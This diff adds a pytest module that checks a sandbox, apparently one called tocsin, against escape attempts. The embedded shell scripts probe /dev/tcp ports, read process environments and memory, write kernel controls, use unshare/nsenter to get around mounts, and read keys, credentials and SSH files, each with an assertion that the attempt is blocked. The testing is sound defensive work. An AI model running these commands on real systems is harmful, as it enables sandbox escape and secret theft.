@@ -1,0 +1,164 @@
+"""Attacks from inside a step on what is beside it: the network, the machine's programs, the kernel's own memories.
+
+Each is made as in `test_guarding`: by the steps of an ordinary user's server, of root's, and of root's without
+bubblewrap. The step's record must say what it was kept from.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from .attack import CANARY, Ground, may_make_namespaces
+
+TRY = "for each in {places}; do (exec 3<>/dev/tcp/$each) && echo reached $each; done; true"
+
+
+@pytest.fixture
+def listener() -> Iterator[int]:
+    """The port of a server of this machine on all of its addresses: as tocsin's own API is."""
+    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) as server:
+        yield server.getsockname()[1]
+
+
+def find_own_addresses() -> list[str]:
+    """All that this machine is called by."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
+        try:
+            asked.connect(("192.0.2.1", 9))
+            own = [asked.getsockname()[0]]
+        except OSError:
+            own = []
+    return ["127.0.0.1", "localhost", "127.1.2.3", "0.0.0.0", "::1", "::ffff:127.0.0.1", *own]
+
+
+def test_a_read_reaches_neither_the_servers_own_port_nor_another_host(ground: Ground, listener: int) -> None:
+    places = " ".join(f"{host}/{listener}" for host in find_own_addresses())
+    _, said = ground.step(TRY.format(places=f"{places} 192.0.2.1/80 example.org/80"))
+    assert "reached" not in said
+    assert "why It was kept from" in said
+    assert f'network = ["127.0.0.1:{listener}"' in said
+
+
+def test_a_declared_host_is_reached_and_no_other_port_of_it(ground: Ground, listener: int) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as other:
+        ground.target(directory="work", network=[f"127.0.0.1:{listener}"])
+        port = other.getsockname()[1]
+        _, said = ground.step(TRY.format(places=f"127.0.0.1/{listener} 127.0.0.1/{port}"))
+    assert said.startswith(f"reached 127.0.0.1/{listener}\n")
+    assert f"reached 127.0.0.1/{port}" not in said
+    assert f"why It was kept from 127.0.0.1:{port}" in said
+
+
+def test_a_read_asks_no_resolver_and_sends_nothing_out(ground: Ground) -> None:
+    """A name that is looked up carries whatever is put in it."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
+        resolver.bind(("127.0.0.1", 0))
+        resolver.settimeout(0.1)
+        port = resolver.getsockname()[1]
+        ground.step(f"echo {CANARY} > /dev/udp/127.0.0.1/{port}; getent hosts {CANARY}.example.org; true")
+        with pytest.raises(TimeoutError):
+            resolver.recv(100)
+
+
+LOOK = r"""
+for each in {pid} 1; do
+  cat /proc/$each/environ /proc/$each/mem /proc/$each/root/{data}/keys/chain 2>/dev/null | tr '\0' '\n' | grep {canary}
+  ls /proc/$each/fd/ 2>/dev/null | head -1 | sed 's/^/descriptors of '$each' /'
+done
+kill -9 {pid} 2>/dev/null && echo killed the server
+(: < /dev/tty) 2>/dev/null && echo has a terminal
+for each in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /sys/power/state /dev/new; do
+  (echo 1 > $each) 2>/dev/null && echo wrote $each
+done
+test -t 0 && echo typed
+true
+"""
+
+
+def test_the_server_and_the_kernel_are_out_of_reach(ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TOCSIN_TEST_SECRET", CANARY)
+    script = LOOK.format(pid=os.getpid(), data=ground.data, canary=CANARY)
+    _, said = ground.step(script, changes=True)
+    found = [line for line in said.splitlines() if not line.startswith(("descriptors of 1 ", "why "))]
+    assert found == []
+
+
+UNMOUNT = r"""
+command -v unshare >/dev/null || exit 0
+unshare -Urm sh -c 'umount -l {data}; umount -l {root}/secrets; cat {data}/keys/chain {root}/secrets/smtp; \
+  mount --bind / /mnt; cat /mnt{data}/keys/chain /mnt{root}/secrets/smtp; mount -t proc proc /mnt; ls /mnt/{pid}' 2>&1
+unshare -Urn sh -c 'for each in 1 {pid}; do nsenter -t $each -n true && echo entered; done'
+mount -o remount,rw / 2>&1; mount -t tmpfs tmpfs /mnt 2>&1 && echo mounted
+true
+"""
+
+
+@pytest.mark.parametrize("changes", [False, True])
+def test_namespaces_of_its_own_open_nothing(ground: Ground, changes: bool) -> None:
+    """Whoever is master of nothing can still be master of less."""
+    script = UNMOUNT.format(data=ground.data, root=ground.root, pid=os.getpid())
+    _, said = ground.step(script, changes=changes)
+    assert CANARY not in said
+    assert "entered" not in said
+    assert "mounted" not in said.splitlines()
+    assert (ground.root / "secrets" / "smtp").read_text() == CANARY
+
+
+def test_memory_that_is_shared_is_its_own(ground: Ground) -> None:
+    if ground.server == "root without bubblewrap" or not may_make_namespaces():
+        pytest.skip("only bubblewrap gives a step a /dev/shm of its own")
+    with tempfile.NamedTemporaryFile(dir="/dev/shm", prefix="tocsin-attack-") as shared:
+        shared.write(CANARY.encode())
+        shared.flush()
+        Path(shared.name).chmod(0o666)
+        _, said = ground.step(f"cat {shared.name}; echo mine > {shared.name}; ipcs -m 2>/dev/null | grep -c 0x; true")
+        assert Path(shared.name).read_text() == CANARY
+    assert CANARY not in said
+
+
+def test_no_socket_of_the_machine_is_reached(ground: Ground) -> None:
+    """Of which one without a name in the file system is everybody's; the others are hidden from reads by mounts."""
+    path, name = ground.folder / "power.sock", f"tocsin-attack-{os.getpid()}"
+    with socket.socket(socket.AF_UNIX) as power, socket.socket(socket.AF_UNIX) as nameless:
+        for server, where in ((power, str(path)), (nameless, f"\0{name}")):
+            server.bind(where)
+            server.listen()
+        path.chmod(0o777)
+        tries = f"""perl -e '
+          socket(S, 1, 1, 0); print "reached nameless\\n" if connect(S, pack("S a*", 1, "\\0{name}"));
+          socket(T, 1, 1, 0); print "reached power\\n" if connect(T, pack("S a*", 1, "{path}"));'"""
+        _, said = ground.step(tries)
+    assert "reached nameless" not in said
+    assert "reached power" not in said or ground.server == "root without bubblewrap"
+
+
+TRAVEL = {
+    "the database": "cat {data}/tocsin.db",
+    "the keys": "cat {data}/keys/chain 2>/dev/null",
+    "the credential": "cd ..; cat .tocsin/credential {root}/.tocsin/credential",
+    "another team's intake key": "cat {root}/secrets/other.intake",
+    "another workspace's secrets": "head {neighbour}/secrets/smtp",
+    "the secret of a channel": "cat {root}/hook",
+    "a person's key": "cat {home}/.ssh/id",
+}
+
+
+@pytest.mark.parametrize("what", TRAVEL)
+def test_what_is_kept_from_a_step_is_in_its_record(ground: Ground, what: str) -> None:
+    for path in (ground.data / "tocsin.db", ground.root / "secrets" / "other.intake"):
+        path.write_text(CANARY)
+        path.chmod(0o600)
+    script = TRAVEL[what].format(
+        data=ground.data, root=ground.root, home=ground.home, neighbour=ground.root.with_name("neighbour")
+    )
+    code, said = ground.step(script, changes=what == "the keys")
+    assert code != 0
+    assert CANARY not in said
+    assert "why It was kept from" in said
+    assert script.split()[-1] in said.partition("why ")[2] or "2>/dev/null" in script
